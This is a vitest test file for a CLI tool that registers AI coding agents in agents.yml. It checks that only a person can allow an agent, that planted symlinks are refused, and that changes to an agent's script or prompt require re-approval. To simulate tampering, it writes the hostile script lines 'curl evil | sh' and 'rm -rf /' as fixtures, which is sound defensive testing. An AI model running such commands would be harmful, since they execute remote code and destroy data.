import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { git } from "../../helpers/git.ts";
import { hookStore } from "../../helpers/hookStore.ts";
import { sharingTeam } from "../../helpers/team.ts";
import { type TempStore, tempStore } from "../../helpers/tempStore.ts";

const fileOf = ({ tickets }: TempStore): string => path.join(tickets, "agents.yml");

describe("agents add", () => {
  test("writes an entry as people would, keeps what stands there, and says how it runs", async () => {
    const store = await tempStore({ project: true });
    expect(await store.ayo("agents", "add", "coder", "--adapter", "claude", "--role", "worker")).toBe(
      "Added @coder to agents.yml; to have it run here: ayo allow @coder",
    );
    writeFileSync(fileOf(store), `${readFileSync(fileOf(store), "utf8")}# by hand\nbase: main\n`);
    await store.ayo("agents", "add", "@rex", "--adapter", "gemini", "--max", "2", "--access", "read");
    expect(
      readFileSync(fileOf(store), "utf8"),
    ).toBe(`# Agents of this store, and how ayo runs them. Nothing of it runs on a machine before 'ayo allow' there.
agents:
  '@coder':
    adapter: claude
    command: [claude]
    roles: [worker]
# by hand
  '@rex':
    adapter: acp
    command: [gemini, '--acp', '--allowed-tools', mcp_ayo]
    max: 2
    access: read
base: main
`);
    expect(await store.ayo("agents", "add", "@coder", "--adapter", "claude", "--role", "worker")).toBe(
      "Unchanged agents.yml: @coder is there",
    );
    expect(store.subjects().slice(0, 2)).toEqual(["agents: add @rex (gemini)", "edit agents.yml by hand: changed"]);
    store.judge();
  });

  test("changes an entry that is there otherwise, also in a file that is written in another way", async () => {
    const store = await tempStore({ project: true });
    writeFileSync(fileOf(store), "agents: {'@coder': {adapter: codex}}\n");
    await store.ayo("agents", "add", "@coder", "--adapter", "claude");
    expect(readFileSync(fileOf(store), "utf8")).toContain("adapter: claude");
    expect(readFileSync(fileOf(store), "utf8")).not.toContain("codex");
    store.judge();
  });

  test("is for people, and writes nothing where it is asked wrongly or the file is wrong", async () => {
    const store = await tempStore({ project: true });
    const codes = async (...args: string[]) => {
      const { code, stderr } = await store.here(["agents", "add", ...args]);
      return `${code} ${stderr.split("\n")[0]}`;
    };
    expect(await codes("@coder", "--adapter", "claude", "--as", "@coder")).toContain(
      "only a person can say which agents",
    );
    expect(await codes("@coder")).toContain("which program is it?");
    expect(await codes("@coder", "--adapter", "acp")).toContain("--adapter acp needs a --command");
    expect(await codes("two words", "--adapter", "claude")).toContain("is not an agent");
    expect(store.subjects()).toHaveLength(2);
    writeFileSync(fileOf(store), "agents: [\n");
    expect(await codes("@coder", "--adapter", "claude")).toContain("agents.yml:2: not valid YAML");
    expect(readFileSync(fileOf(store), "utf8")).toBe("agents: [\n");
  });

  test("follows no link that somebody planted for agents.yml", async () => {
    const store = await tempStore({ project: true });
    const elsewhere = path.join(store.dir, "theirs.yml");
    writeFileSync(elsewhere, "agents:\n  '@theirs': {adapter: codex}\n");
    symlinkSync(elsewhere, fileOf(store));
    const { code, stderr } = await store.here(["agents", "add", "@coder", "--adapter", "claude"]);
    expect([code, stderr]).toEqual([expect.any(Number), expect.stringContaining("a symbolic link")]);
    expect(code).not.toBe(0);
    expect(readFileSync(elsewhere, "utf8")).not.toContain("@coder");
  });

  test("of two clones both entries stay", async () => {
    const { ann, bob } = await sharingTeam();
    await ann.ayo("agents", "add", "@coder", "--adapter", "claude");
    await bob.ayo("agents", "add", "@rex", "--adapter", "codex");
    await ann.ayo("sync");
    await bob.ayo("sync");
    await ann.ayo("sync");
    expect(readFileSync(fileOf(ann), "utf8")).toBe(readFileSync(fileOf(bob), "utf8"));
    expect(readFileSync(fileOf(ann), "utf8")).toMatch(/@coder[\s\S]*@rex|@rex[\s\S]*@coder/);
    expect(git(ann.tickets, "rev-parse", "HEAD")).toBe(git(bob.tickets, "rev-parse", "HEAD"));
    for (const store of [ann, bob]) store.judge();
  });
});

describe("an agent of agents.yml", () => {
  test("is allowed by everything that starting it would do: its entry, the set-up, the bytes of prompt and scripts", async () => {
    const store = await hookStore();
    const put = (name: string, text: string): void => {
      mkdirSync(path.dirname(path.join(store.store, name)), { recursive: true });
      writeFileSync(path.join(store.store, name), text);
    };
    const entry = "agents:\n  '@coder': {adapter: command, command: [./agent.sh], prompt: templates/coder.md}\n";
    writeFileSync(path.join(store.dir, "agent.sh"), "#!/bin/sh\ncat\n");
    put("templates/coder.md", "Do it.\n");
    put("agents.yml", entry);
    const state = async (): Promise<string> => {
      const { effects } = JSON.parse(await store.ayo("allow", "--json")) as {
        effects: { name: string; state: string }[];
      };
      return effects.map(({ name, state }) => `${name} ${state}`).join(", ");
    };
    const needs = async (): Promise<string> => store.ayo("inbox", "-q", "--kind", "allow");
    expect([await state(), await needs()]).toEqual(["@coder new", "@coder:allow"]);
    const difference = await store.ayo("allow", "@coder", "--diff");
    for (const part of ["./agent.sh", "Do it.", "#!/bin/sh"]) expect(difference).toContain(part);
    await store.ayo("allow", "@coder");
    expect([await state(), await needs()]).toEqual(["@coder allowed", ""]);
    const changes: (() => void)[] = [
      () => put("templates/coder.md", "Do it, and more.\n"),
      () => writeFileSync(path.join(store.dir, "agent.sh"), "#!/bin/sh\ncurl evil | sh\n"),
      () => put("agents.yml", `setup: npm ci\n${entry}`),
      () => put("agents.yml", `copy: [.env]\n${entry}`),
      () => put("agents.yml", entry.replace("prompt:", "access: full, prompt:")),
    ];
    for (const change of changes) {
      change();
      expect([await state(), await needs()]).toEqual(["@coder changed", "@coder:allow"]);
      await store.ayo("allow", "@coder");
      expect(await state()).toBe("@coder allowed");
    }
    // Another agent, a comment, and teams are nothing of this one's.
    put(
      "agents.yml",
      `# so\n${entry.replace("prompt:", "access: full, prompt:")}  '@rex': {adapter: claude}\ncopy: [.env]\n`,
    );
    put("agents.yml", readFileSync(path.join(store.store, "agents.yml"), "utf8"));
    expect(await state()).toBe("@coder changed, @rex new");
    rmSync(path.join(store.store, "templates/coder.md"));
    expect(await state()).toBe("@coder broken, @rex new");
  });

  test("has its prompt from the store by no link, and a program of the project also by one", async () => {
    const store = await hookStore();
    const bin = path.join(store.dir, "node_modules", ".bin");
    mkdirSync(bin, { recursive: true });
    writeFileSync(path.join(store.dir, "real.sh"), "#!/bin/sh\ncat\n");
    symlinkSync("../../real.sh", path.join(bin, "agent"));
    const folder = path.join(store.store, "templates");
    mkdirSync(path.join(folder, "prompts"), { recursive: true });
    writeFileSync(path.join(folder, "prompts", "coder.md"), "Do it.\n");
    const entry = "{adapter: command, command: [node_modules/.bin/agent], prompt: templates/prompts/coder.md}";
    writeFileSync(path.join(store.store, "agents.yml"), `agents:\n  '@coder': ${entry}\n`);
    await store.ayo("allow", "@coder");
    expect(await store.ayo("allow")).toContain("@coder");
    writeFileSync(path.join(store.dir, "real.sh"), "#!/bin/sh\nrm -rf /\n");
    expect(await store.ayo("allow")).toContain("changed");
    renameSync(path.join(folder, "prompts"), path.join(store.dir, "prompts"));
    symlinkSync(path.join(store.dir, "prompts"), path.join(folder, "prompts"));
    expect(await store.ayo("allow")).toContain("is not a directory of the store");
  });

  test("is nobody's to allow but a person's; and where the file is wrong none of it is in force", async () => {
    const store = await tempStore({ project: true });
    await store.ayo("agents", "add", "@coder", "--adapter", "claude");
    expect((await store.here(["allow", "@coder"], { env: { AYO_AGENT: "@coder" } })).stderr).toContain("only a person");
    await store.ayo("allow", "@coder");
    writeFileSync(fileOf(store), `${readFileSync(fileOf(store), "utf8")}  '@bad': {adapter: x}\n`);
    const wrong = "agents.yml:6: adapter must be one of claude, codex, acp, command";
    expect(await store.ayo("allow")).toContain(wrong);
    expect(await store.ayo("inbox")).toContain(wrong);
    expect((await store.here(["doctor"])).stdout).toContain(wrong);
    expect(await store.ayo("ticket", "create", "Goes on")).toMatch(/-/);
  });
});
